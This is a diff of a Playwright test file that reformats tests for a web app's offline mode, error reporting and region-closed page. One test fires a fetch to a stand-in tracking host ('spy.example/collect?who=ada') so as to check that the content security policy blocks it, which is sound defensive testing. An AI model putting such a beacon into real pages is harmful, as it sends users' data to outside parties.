@@ -6,7 +6,11 @@ test.use({ brand: 'totofa' })
 test.describe('without a connection', () => {
   test.use({ serviceWorkers: 'allow' })
 
-  test('the brand’s own page says so at any address, and opens as soon as there is one', async ({ page, context, complaints }) => {
+  test('the brand’s own page says so at any address, and opens as soon as there is one', async ({
+    page,
+    context,
+    complaints,
+  }) => {
     await open(page, '/')
     await siteKept(page)
     const kept = await page.evaluate(async () => {
@@ -28,7 +32,11 @@ test.describe('without a connection', () => {
   })
 })
 
-test('faults are reported, then a closed region is said in place of the site', async ({ page, sandbox, complaints }) => {
+test('faults are reported, then a closed region is said in place of the site', async ({
+  page,
+  sandbox,
+  complaints,
+}) => {
   await open(page, '/')
   await page.evaluate(() => {
     setTimeout(() => {
@@ -36,10 +44,9 @@ test('faults are reported, then a closed region is said in place of the site', a
     })
     fetch('https://spy.example/collect?who=ada').catch(() => undefined)
   })
-  await expect.poll(async () => (await sandbox.errors()).map(({ kind, page: at, message }) => `${kind} ${at} ${message}`).sort()).toEqual([
-    'error MAIN Error: no mail for [email]',
-    'policy MAIN connect-src blocked https://spy.example/collect',
-  ])
+  await expect
+    .poll(async () => (await sandbox.errors()).map(({ kind, page: at, message }) => `${kind} ${at} ${message}`).sort())
+    .toEqual(['error MAIN Error: no mail for [email]', 'policy MAIN connect-src blocked https://spy.example/collect'])
   await sandbox.fault({ method: 'GET', path: '/api/promotions', kind: 'status', status: 451 })
   await page.goto('/promotions')
   await expect(page.locator('main[data-page=REGION_CLOSED]')).toContainText('Not available where you are')
